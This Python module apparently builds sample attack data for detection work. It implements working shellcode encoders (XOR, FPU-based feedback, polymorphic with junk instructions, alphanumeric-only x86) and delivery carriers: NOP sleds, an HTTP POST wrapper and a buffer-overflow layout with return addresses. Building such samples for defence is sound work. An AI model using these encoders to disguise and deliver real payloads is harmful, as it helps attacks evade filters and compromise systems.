# SPDX-License-Identifier: GPL-2.0-or-later
"""Encoders and carriers of our own: what attackers put around their code, so that it passes and is reached."""
import struct

from designs import assemble

ALNUM = b'0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz'


def data(code):
    return 'db ' + ', '.join(map(str, code))


def xor(code, language, rng):
    """Each byte with one key; the address by jmp, call, pop, or by lea of rip."""
    key = rng.choice([k for k in range(1, 256) if k not in code])
    body = bytes(c ^ key for c in code)
    if language == 'x86':
        return assemble('x86', f'''
BITS 32
    jmp down
up: pop esi
    xor ecx, ecx
    mov cx, {len(code)}
    push esi
again: xor byte [esi], {key}
    inc esi
    loop again
    ret
down: call up
''') + body
    return assemble('x86-64', f'''
BITS 64
    lea rsi, [rel body]
    xor ecx, ecx
    mov cx, {len(code)}
again: xor byte [rsi + rcx - 1], {key}
    loop again
body:
''') + body


def feedback(code, language, rng):
    """Words, each with a key to which every plain word is added; the address from the x87's state."""
    code += b'\x90' * (-len(code) % 4)
    key = rng.getrandbits(32)
    body, k = b'', key
    for at in range(0, len(code), 4):
        plain = struct.unpack_from('<I', code, at)[0]
        body += struct.pack('<I', plain ^ k)
        k = (k + plain) & 0xffffffff
    wide = language == 'x86-64'
    p, s, load = ('rdi', 'rsp', 'mov edi, [rsp - 16]') if wide else ('edi', 'esp', 'mov edi, [esp - 16]')
    return assemble(language, f'''
BITS {64 if wide else 32}
here: fldpi
    mov ebx, {key}
    fnstenv [{s} - 28]
    {load}
    xor ecx, ecx
    mov cx, {len(code) // 4}
again: xor [{p} + body - here], ebx
    add ebx, [{p} + body - here]
    add {p}, 4
    loop again
body:
''') + body


def polymorphic(code, language, rng):
    """Registers, operation, order and what stands between by chance."""
    names = ['eax', 'ebx', 'edx', 'esi', 'edi']
    rng.shuffle(names)
    pointer, count, spare = names[:3]
    amount = rng.randrange(1, 255)
    undo, do = rng.choice([('add', lambda c: c - amount), ('sub', lambda c: c + amount), ('xor', lambda c: c ^ amount)])
    body = bytes(do(c) & 255 for c in code)

    def junk():
        choice = [f'mov {spare}, {rng.getrandbits(32)}', 'nop', f'xchg {spare}, {spare}', 'cld', 'cmc',
                  f'lea {spare}, [{spare}]', f'add {spare}, {rng.getrandbits(7)}', f'bswap {spare}', 'clc']
        return '\n'.join(rng.choice(choice) for _ in range(rng.randrange(4)))

    first = [f'mov {count}, {len(code) ^ 0x7a7a7a7a}\nxor {count}, 0x7a7a7a7a', f'call next\nnext: pop {pointer}']
    rng.shuffle(first)
    wide = language == 'x86-64'
    full = 'r' + pointer[1:] if wide else pointer
    first = [f.replace(f'pop {pointer}', f'pop {full}') for f in first]
    return assemble(language, f'''
BITS {64 if wide else 32}
{junk()}
{first[0]}
{junk()}
{first[1]}
{junk()}
again:
{junk()}
    {undo} byte [{full} + body - next], {amount}
{junk()}
    inc {full}
{junk()}
    dec {count}
    jnz again
{junk()}
body:
''') + body


def pieces(byte):
    """Alphanumeric bytes that give this 7-bit value when they are xored."""
    for a in ALNUM:
        if a == byte:
            return [a]
        for b in ALNUM:
            if a ^ b == byte:
                return [a, b]
    for a in ALNUM:
        for b in ALNUM:
            for c in ALNUM:
                if a ^ b ^ c == byte:
                    return [a, b, c]
    raise ValueError(byte)


def product(value, rng):
    """Two alphanumeric words whose product is this value modulo 2**32."""
    while True:
        one = bytes(rng.choice(ALNUM) for _ in range(4))
        number = struct.unpack('<I', one)[0]
        if number % 2 == 0:
            continue
        two = struct.pack('<I', value * pow(number, -1, 1 << 32) % (1 << 32))
        if all(b in ALNUM for b in two):
            return one, two


def alphanumeric(code, rng):
    """x86, letters and digits alone; ECX must hold its address. Written out: one xor for each byte, no loop."""
    writer, placed = b'', b''
    for c in code:
        place = rng.choice(ALNUM)
        want = c ^ place
        if want < 128:
            first, *more = pieces(want)
            step = b'j' + bytes([first]) + b'X'     # push; pop eax
        else:
            more = pieces(want ^ 0xff)
            step = b'jAX4AH'                        # eax = 0; dec eax
        step += b''.join(b'4' + bytes([m]) for m in more)
        writer += step + b'0DQ0A'                   # xor [ecx + 2 * edx + '0'], al; inc ecx
        placed += bytes([place])
    where = ord('0')
    begin = where + 4 + 1                           # after "h", the word that is multiplied, "X"
    writer += b'G' * (-(begin + len(writer) - where) % 2)
    one, two = product((begin + len(writer) - where) // 2, rng)
    head = b'iA0' + two + b'PZ'                     # imul eax, [ecx + '0'], two; push eax; pop edx
    head += bytes(rng.choice(b'GO') for _ in range(where - 1 - len(head))) + b'h' + one + b'X'
    return head + writer + placed


def sled(code, rng):
    return b'\x90' * rng.randrange(30, 400) + code


def nops(code, rng):
    """Instructions of one byte that hurt nobody who begins among them."""
    return bytes(rng.choice(b'\x90\x98\xf8\xf9\xf5\xfc\x9b') for _ in range(rng.randrange(40, 200))) + code


def request(code, rng):
    path = ''.join(rng.choice('abcdefghij') for _ in range(rng.randrange(3, 12)))
    head = (f'POST /{path}.cgi HTTP/1.1\r\nHost: www.example.net\r\nUser-Agent: Mozilla/5.0 (X11; Linux)\r\n'
            f'Content-Type: application/octet-stream\r\nContent-Length: {len(code) + 40}\r\n\r\n')
    return head.encode() + code + b'\r\n' + bytes(rng.choice(ALNUM) for _ in range(38))


def overflow(code, rng):
    """Filler, a sled, the code, and return addresses."""
    address = struct.pack('<I', 0xbffff000 | rng.randrange(4096) & ~3)
    return bytes(rng.choice(ALNUM) for _ in range(rng.randrange(60, 300))) + b'\x90' * rng.randrange(8, 64) + code + \
        address * rng.randrange(8, 40)


def chance(code, rng):
    """In the middle of bytes that mean nothing."""
    return rng.randbytes(rng.randrange(50, 1500)) + code + rng.randbytes(rng.randrange(50, 1500))


CARRIERS = {'sled': sled, 'nops': nops, 'request': request, 'overflow': overflow, 'chance': chance}
